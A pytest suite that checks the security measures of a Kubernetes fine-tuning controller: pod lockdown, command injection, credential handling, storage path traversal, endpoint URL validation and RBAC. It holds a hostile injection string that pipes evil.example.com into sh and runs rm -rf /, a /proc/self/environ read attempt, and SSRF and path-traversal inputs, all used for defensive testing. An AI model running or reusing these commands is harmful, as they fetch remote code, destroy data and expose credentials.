"""The measures of docs/security.md, each checked.

RBAC is checked where it is defined: tests/controller/test_units.py (every rule justified,
nothing more), tests/controller/*::assert_allowed_by_rbac (every request the controller makes is
allowed) and tests/chart/test_rbac.py (the chart's Role is exactly those rules, no wildcards).
"""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import boto3
import pytest
import yaml

from controller.jobs import build_job
from controller.rbac import RULES
from controller.settings import ControllerSettings
from jobs.common import artifacts, keys
from jobs.common.errors import InvalidInput, InvalidSpec
from jobs.common.names import STEP_ORDER
from jobs.common.specio import run_from_obj
from jobs.common.store import open_store

REPO = Path(__file__).resolve().parents[2]
SETTINGS = ControllerSettings(
    namespaces=("team-a",),
    default_store_uri="s3://ft-artifacts/prod",
    default_store_secret="store-creds",
    images={s: f"registry.example/ft-{s}:1.0" for s in STEP_ORDER},
)
HOSTILE = "$(curl -s evil.example.com | sh); `id` && rm -rf / # ' \" \\ \n"


def manifest(spec: dict, name: str = "sec") -> dict:
    return {"apiVersion": "finetune.dev/v1alpha1", "kind": "FineTuneRun", "metadata": {"name": name, "namespace": "team-a"}, "spec": spec}


def hostile_run():
    """Every free-text field a user controls, filled with shell syntax."""
    return run_from_obj(manifest({
        "model": {"hf": HOSTILE, "name": HOSTILE[:100]},
        "data": {"sources": [{"path": HOSTILE, "format": "csv", "columns": {"text": HOSTILE, "label": "l"}}]},
        "steps": {
            "eval": {
                "items": HOSTILE,
                "backend": {"endpoint": {"baseUrl": "https://llm.example.com/v1", "model": HOSTILE[:200],
                                         "apiKeySecret": {"name": "llm-key", "key": "OPENAI_API_KEY"}}},
                "checks": [{"type": "contains", "value": HOSTILE}],
                "mode": HOSTILE[:64],
            },
            "pack": {"format": "openai_chat", "systemPrompt": HOSTILE},
            "train": {"maxSteps": 2},
            "evaluate": {"checks": [{"type": "exact", "value": HOSTILE}]},
            "gguf": {"systemPrompt": HOSTILE},
        },
        "tracking": {"wandb": {"project": "ft", "runName": HOSTILE[:128], "apiKeySecret": {"name": "wandb", "key": "api-key"}}},
    }))


# --- step pods -------------------------------------------------------------------------------


@pytest.mark.parametrize("step", STEP_ORDER)
def test_step_pods_are_locked_down(step):
    job = build_job(hostile_run(), step, SETTINGS)
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert pod["automountServiceAccountToken"] is False  # steps never talk to the API server
    assert pod.get("enableServiceLinks") is False
    assert pod["securityContext"]["runAsNonRoot"] is True and pod["securityContext"]["runAsUser"] >= 1
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    sc = container["securityContext"]
    assert sc["readOnlyRootFilesystem"] is True and sc["allowPrivilegeEscalation"] is False
    assert sc["capabilities"] == {"drop": ["ALL"]} and sc["runAsNonRoot"] is True
    assert not {"hostNetwork", "hostPID", "hostIPC"} & pod.keys()
    assert all(set(v) - {"name"} == {"emptyDir"} for v in pod["volumes"])  # nothing from the node


@pytest.mark.parametrize("step", STEP_ORDER)
def test_user_strings_never_reach_a_command(step):
    """Exec-form command, no args: user text travels only inside the FT_SPEC JSON value."""
    job = build_job(hostile_run(), step, SETTINGS)
    (container,) = job["spec"]["template"]["spec"]["containers"]
    assert container["command"] == ["python", "-m", f"jobs.{step}"]
    assert "args" not in container
    env = {e["name"]: e for e in container["env"]}
    carriers = [name for name, e in env.items() if "$(curl" in json.dumps(e)]
    assert carriers == ["FT_SPEC"]
    assert json.loads(env["FT_SPEC"]["value"])["spec"]["steps"]["pack"]["systemPrompt"] == HOSTILE


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield node


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else "?"


def test_no_shell_no_eval_no_pickle_no_remote_code_in_the_code():
    banned = {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput", "eval", "exec",
              "pickle.load", "pickle.loads", "yaml.unsafe_load", "yaml.full_load"}
    found = []
    files = sorted((REPO / "jobs").rglob("*.py")) + sorted((REPO / "controller").rglob("*.py"))
    assert len(files) > 40
    for path in files:
        tree = ast.parse(path.read_text(), str(path))
        for call in _calls(tree):
            name = _dotted(call.func)
            where = f"{path.relative_to(REPO)}:{call.lineno}"
            if name in banned:
                found.append(f"{where}: {name}()")
            for kw in call.keywords:
                if kw.arg in ("shell", "trust_remote_code") and not (isinstance(kw.value, ast.Constant) and kw.value.value is False):
                    found.append(f"{where}: {kw.arg}=")
            if name == "yaml.load" and not any(
                kw.arg == "Loader" and _dotted(kw.value) in ("SpecLoader", "yaml.SafeLoader", "yaml.CSafeLoader") for kw in call.keywords
            ):
                found.append(f"{where}: yaml.load without a safe loader")
            if name.startswith("subprocess.") and call.args and not isinstance(call.args[0], (ast.List, ast.Name)):
                found.append(f"{where}: {name} with a command that is not an argv list")
    assert found == []


# --- credentials -----------------------------------------------------------------------------


def _properties(node, out):
    if isinstance(node, dict):
        for name, sub in node.get("properties", {}).items():
            out.setdefault(name, []).append(sub)
        for value in node.values():
            _properties(value, out)
    elif isinstance(node, list):
        for value in node:
            _properties(value, out)
    return out


def test_the_spec_has_no_field_for_a_secret_value():
    """Credentials are named (a Secret and a key), never given: no field of the CRD can hold one."""
    crd = yaml.safe_load((REPO / "crds" / "finetune.dev_finetuneruns.yaml").read_text())
    fields = _properties(crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"], {})
    suspicious = {n for n in fields if re.search(r"password|credential|secret|apikey|accesskey|^token$|auth", n, re.I)}
    assert suspicious == {"apiKeySecret", "secretRef"}
    for ref in fields["apiKeySecret"]:
        assert set(ref["properties"]) == {"name", "key"}  # a reference: which Secret, which key
    for ref in fields["secretRef"]:
        assert ref["type"] == "string" and ref["pattern"] == "^[a-z0-9]([-a-z0-9]*[a-z0-9])?$"  # a Secret's name


def test_credentials_reach_pods_only_by_reference_and_only_where_needed():
    run = hostile_run()
    by_step = {}
    for step in STEP_ORDER:
        env = build_job(run, step, SETTINGS)["spec"]["template"]["spec"]["containers"][0]["env"]
        secret_envs = {e["name"]: e["valueFrom"]["secretKeyRef"] for e in env if "valueFrom" in e}
        plain = {e["name"] for e in env if "value" in e}
        assert not plain & {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY", "OPENAI_API_KEY"}
        by_step[step] = secret_envs
    store_keys = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_ENDPOINT_URL", "AWS_REGION"}
    for step, envs in by_step.items():
        assert store_keys <= envs.keys() and envs["AWS_SECRET_ACCESS_KEY"]["name"] == "store-creds"
        assert ("WANDB_API_KEY" in envs) == (step == "train")
        assert ("OPENAI_API_KEY" in envs) == (step == "eval")


@pytest.mark.parametrize("key", ["FT_STORE_URI", "FT_SPEC", "AWS_ENDPOINT_URL", "AWS_SECRET_ACCESS_KEY", "PYTHONPATH",
                                 "LD_PRELOAD", "HOME", "PATH", "HTTPS_PROXY", "WANDB_BASE_URL", "HF_ENDPOINT"])
def test_an_endpoint_key_cannot_replace_the_steps_environment(key):
    """The endpoint key becomes an env var named like the Secret's key: a name the step runs with
    (the store, the spec, the interpreter, proxies) is refused, so no pod gets two values for it."""
    spec = {"model": {"gguf": "m.gguf"}, "steps": {"eval": {"items": "i.jsonl", "backend": {"endpoint": {
        "baseUrl": "https://llm.example.com/v1", "model": "m", "apiKeySecret": {"name": "llm-key", "key": key}}}}}}
    with pytest.raises(InvalidSpec) as exc:
        run_from_obj(manifest(spec))
    assert "spec.steps.eval.backend.endpoint.apiKeySecret: key" in exc.value.message


def test_job_env_names_are_unique():
    for step in STEP_ORDER:
        env = build_job(hostile_run(), step, SETTINGS)["spec"]["template"]["spec"]["containers"][0]["env"]
        names = [e["name"] for e in env]
        assert len(names) == len(set(names)), names


def _fake_openai():
    spec = importlib.util.spec_from_file_location("openai_fake", REPO / "tests" / "eval" / "openai_fake.py")
    module = sys.modules.get("openai_fake") or importlib.util.module_from_spec(spec)
    if "openai_fake" not in sys.modules:
        sys.modules["openai_fake"] = module
        spec.loader.exec_module(module)
    return module


def _everything_written(tmp_path: Path, bucket: str, endpoint: str, outputs: list[str]) -> list[tuple[str, bytes]]:
    blobs = [(f"output {i}", o.encode()) for i, o in enumerate(outputs)]
    blobs += [(str(p), p.read_bytes()) for p in tmp_path.rglob("*") if p.is_file()]
    s3 = boto3.client("s3", endpoint_url=endpoint)
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket):
        for obj in page.get("Contents", []):
            blobs.append((f"s3://{bucket}/{obj['Key']}", s3.get_object(Bucket=bucket, Key=obj["Key"])["Body"].read()))
    return blobs


def test_planted_secrets_never_appear_in_logs_status_or_artifacts(tmp_path, moto_server, moto_bucket):
    """`ftctl run` of eval (an endpoint that demands its key) -> pack on S3, with every log at
    DEBUG, then a run whose key the endpoint refuses. The planted values are used (the store
    and the endpoint accept nothing else) and written nowhere."""
    fake_mod = _fake_openai()
    planted = {name: f"planted-{name.lower()}-{secrets.token_hex(12)}" for name in ("AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY", "LLM_API_KEY")}
    wrong_key = f"planted-wrong-{secrets.token_hex(12)}"
    fake = fake_mod.FakeOpenAI(api_key=planted["LLM_API_KEY"])
    (tmp_path / "items.jsonl").write_text("".join(
        json.dumps({"id": f"q{i}", "messages": [{"role": "user", "content": f"Repeat after me: item {i} is fine."}],
                    "expected": f"echo: Repeat after me: item {i} is fine."}) + "\n" for i in range(12)))
    (tmp_path / "rows.jsonl").write_text("".join(
        json.dumps({"messages": [{"role": "user", "content": f"What is {i} times three, exactly?"},
                                 {"role": "assistant", "content": f"{i} times three is {3 * i}, exactly that."}]}) + "\n"
        for i in range(40)))
    outputs = []
    with fake_mod.serve(fake) as url:
        for name, key in (("good", planted["LLM_API_KEY"]), ("refused", wrong_key), ("environ", planted["LLM_API_KEY"])):
            # environ: a data "file" that is the step's own environment, credentials included.
            data = "/proc/self/environ" if name == "environ" else "rows.jsonl"
            spec = {
                "model": {"gguf": "models/base.gguf"},
                "data": {"sources": [{"fromStep": "eval", "format": "eval_results"}, {"path": data, "format": "csv" if name == "environ" else "openai_chat"}]},
                "steps": {
                    # cache: the refused run must ask the endpoint, not reuse the good run's answers.
                    "eval": {"items": "items.jsonl", "retries": 0, "cache": name == "good", "backend": {"endpoint": {
                        "baseUrl": url, "model": "m", "apiKeySecret": {"name": "llm-key", "key": "LLM_API_KEY"}}}},
                    "pack": {"curate": "expected", "nearDupThreshold": None},
                },
                "tracking": {"wandb": {"project": "ft", "mode": "offline", "apiKeySecret": {"name": "wandb", "key": "WANDB_API_KEY"}}},
                "store": {"uri": f"s3://{moto_bucket}/team-a"},
            }
            path = tmp_path / f"{name}.yaml"
            path.write_text(json.dumps(manifest(spec, name)))
            env = {k: v for k, v in os.environ.items() if not k.startswith(("FT_", "AWS_"))}
            env.update(planted, LLM_API_KEY=key, AWS_ACCESS_KEY_ID="test-id", AWS_ENDPOINT_URL=moto_server.endpoint,
                       AWS_REGION="us-east-1", FT_LOG_LEVEL="DEBUG", PYTHONPATH=str(REPO))
            # --force: the refused run would otherwise adopt the good run's eval from the cache.
            force = ["--force"] if name == "refused" else []
            done = subprocess.run([sys.executable, "-m", "jobs.cli.main", "run", str(path), *force, "--work-dir", str(tmp_path / f"work-{name}")],
                                  cwd=tmp_path, env=env, capture_output=True, text=True, timeout=600)
            outputs += [done.stdout, done.stderr]
            if name == "good":
                assert done.returncode == 0, done.stdout + done.stderr
            else:
                assert done.returncode == 1, done.stdout + done.stderr
    assert fake.calls >= 12  # the endpoint was called, with the planted key (else it answers 401)
    store = open_store(f"s3://{moto_bucket}/team-a")
    assert json.loads(store.get_bytes("runs/team-a/good/status.json"))["phase"] == "Succeeded"
    refused = json.loads(store.get_bytes("runs/team-a/refused/status.json"))
    assert refused["phase"] == "Failed" and "401" in json.dumps(refused)
    environ = json.loads(store.get_bytes("runs/team-a/environ/status.json"))
    assert environ["phase"] == "Failed" and "/proc/self/environ: a system path" in environ["error"]["message"]

    blobs = _everything_written(tmp_path, moto_bucket, moto_server.endpoint, outputs)
    assert len(blobs) > 20 and any(name.endswith("/_manifest.json") for name, _ in blobs)
    # The scan reads what was written: answers, and the steps' DEBUG logs.
    assert any(b"echo: Repeat after me: item 3" in data for _, data in blobs)
    assert any(name.endswith("logs/eval.log") and b" DEBUG " in data for name, data in blobs)
    leaks = [(where, label) for where, data in blobs for label, value in {**planted, "wrong": wrong_key}.items()
             if value.encode() in data]
    assert leaks == []


# --- store keys ------------------------------------------------------------------------------


@pytest.mark.parametrize("rel", ["../train/adapter.bin", "../../other-run/pack/train.jsonl", "..",
                                 "a/../../x", "_manifest.json", "a//b", "a\\..\\b", "a/./b", "x\n"])
def test_step_writer_refuses_keys_outside_its_prefix(store, tmp_path, rel):
    writer = artifacts.StepWriter(store, "team-a", "run-1", "pack")
    local = tmp_path / "f.txt"
    local.write_text("x")
    with pytest.raises(InvalidInput):
        writer.add_file(rel, local)
    assert store.list("runs") == []


def test_step_writer_keys_stay_under_the_run_and_the_store_prefix(store, tmp_path):
    writer = artifacts.StepWriter(store, "team-a", "run-1", "pack")
    writer.begin()
    local = tmp_path / "f.txt"
    local.write_text("x")
    for rel in ("train.jsonl", "sub/dir/a.b-c_d.json", "_meta/x", "/etc/passwd"):  # a leading / is stripped
        writer.add_file(rel, local)
    writer.commit(input_key="k" * 64, code_version="c")
    prefix = keys.step_prefix("team-a", "run-1", "pack")
    written = store.list("runs")
    assert f"{prefix}/etc/passwd" in written and all(keys.under(prefix, k) for k in written)
    if hasattr(store, "bucket"):  # S3: the store's own prefix holds every object it wrote
        raw = boto3.client("s3").list_objects_v2(Bucket=store.bucket)["Contents"]
        assert all(o["Key"].startswith("team-a/") for o in raw)


# --- endpoints -------------------------------------------------------------------------------


@pytest.mark.parametrize("url, insecure, ok", [
    ("https://api.example.com/v1", False, True),
    ("http://127.0.0.1:8000/v1", False, True),
    ("http://127.8.9.10/v1", False, True),
    ("http://localhost:8080/v1", False, True),
    ("http://[::1]:8080/v1", False, True),
    ("http://models.internal/v1", True, True),
    ("http://models.internal/v1", False, False),
    ("http://127.0.0.1.nip.io/v1", False, False),
    ("http://localhost.evil.example.com/v1", False, False),
    ("http://0.0.0.0:8000/v1", False, False),
    ("http://2130706433/v1", False, False),  # 127.0.0.1 as a decimal integer
    ("http://[::ffff:10.0.0.1]/v1", False, False),
    ("http://localhost@evil.example.com/v1", False, False),
    ("https://user:sk-123@api.example.com/v1", False, False),
    ("ftp://api.example.com/v1", False, False),
    ("HTTP://api.example.com/v1", False, False),
    ("https://api.example.com/v1\r\nX-Injected: 1", False, False),
    ("file:///etc/passwd", True, False),
])
def test_endpoint_urls(url, insecure, ok):
    spec = {"model": {"gguf": "m.gguf"}, "steps": {"eval": {"items": "i.jsonl", "backend": {"endpoint": {
        "baseUrl": url, "model": "m", "allowInsecureHttp": insecure}}}}}
    if ok:
        run_from_obj(manifest(spec))
    else:
        with pytest.raises(InvalidSpec) as exc:
            run_from_obj(manifest(spec))
        assert "spec.steps.eval.backend.endpoint" in exc.value.message


# --- RBAC ------------------------------------------------------------------------------------


def test_controller_rbac_has_no_wildcards_and_reads_secrets_only_by_name():
    for rule in RULES:
        assert "*" not in rule["verbs"] and "*" not in rule["resources"] and "*" not in rule["apiGroups"]
        assert rule["why"]
    secret_verbs = {v for r in RULES if "secrets" in r["resources"] for v in r["verbs"]}
    assert secret_verbs == {"get"}  # no list/watch: it cannot enumerate Secrets
    pod_rules = [r for r in RULES if any(res.startswith("pods") for res in r["resources"])]
    assert {res for r in pod_rules for res in r["resources"]} == {"pods"}  # no pods/exec, pods/log
    assert {v for r in pod_rules for v in r["verbs"]} == {"list"}


def test_the_endpoint_key_does_not_follow_a_redirect():
    """An endpoint that redirects elsewhere gets an error, and the key is not sent on."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from jobs.common.backends.http import OpenAIChatBackend
    from jobs.common.spec import Decoding

    seen: list[dict[str, str]] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            seen.append(dict(self.headers))
            self.send_response(500)
            self.end_headers()

        def log_message(self, *args):
            pass

    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)

    class Redirect(Elsewhere):
        def do_POST(self):  # noqa: N802
            self.send_response(307)
            self.send_header("Location", f"http://127.0.0.1:{elsewhere.server_address[1]}/v1/chat/completions")
            self.send_header("Content-Length", "0")
            self.end_headers()

    redirect = ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    for server in (elsewhere, redirect):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    key = f"planted-{secrets.token_hex(8)}"
    try:
        backend = OpenAIChatBackend(f"http://127.0.0.1:{redirect.server_address[1]}/v1", "m", api_key=key, retries=0)
        with pytest.raises(InvalidInput) as exc:
            backend.generate([[{"role": "user", "content": "hi"}]], Decoding())
    finally:
        for server in (elsewhere, redirect):
            server.shutdown()
            server.server_close()
    assert "307" in exc.value.message and key not in exc.value.message
    assert seen == []


@pytest.mark.parametrize("failure", ["InvalidData", "RuntimeError"])
def test_step_error_messages_never_carry_credentials(tmp_path, failure):
    """Whatever a step's error quotes (a file's header, an exception's text), the values of
    credential env vars are masked in its error line, its log and its traceback."""
    planted = {"AWS_SECRET_ACCESS_KEY": f"s3-{secrets.token_hex(10)}", "LLM_API_KEY": f"sk-{secrets.token_hex(10)}"}
    (tmp_path / "run.json").write_text(json.dumps(manifest({"model": {"gguf": "m.gguf"}, "data": {
        "sources": [{"path": "rows.jsonl", "format": "openai_chat"}]}, "steps": {"pack": {}}})))
    body = (
        "import os\n"
        "from jobs.common.errors import InvalidData\n"
        "from jobs.common.stepctx import main\n"
        "quote = ' / '.join(os.environ[k] for k in ('AWS_SECRET_ACCESS_KEY', 'LLM_API_KEY'))\n"
        f"def body(ctx): raise {failure}('the header reads: ' + quote)\n"
        "main('pack', body)\n"
    )
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(REPO), "FT_SPEC_FILE": str(tmp_path / "run.json"),
           "FT_STORE_URI": (tmp_path / "store").as_uri(), "FT_BASE_DIR": str(tmp_path), **planted}
    done = subprocess.run([sys.executable, "-c", body], cwd=REPO, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == (2 if failure == "InvalidData" else 1)
    error = json.loads(next(line for line in done.stdout.splitlines() if '"type": "error"' in line))
    assert error["message"].endswith("the header reads: *** / ***")
    for value in planted.values():
        assert value not in done.stdout + done.stderr
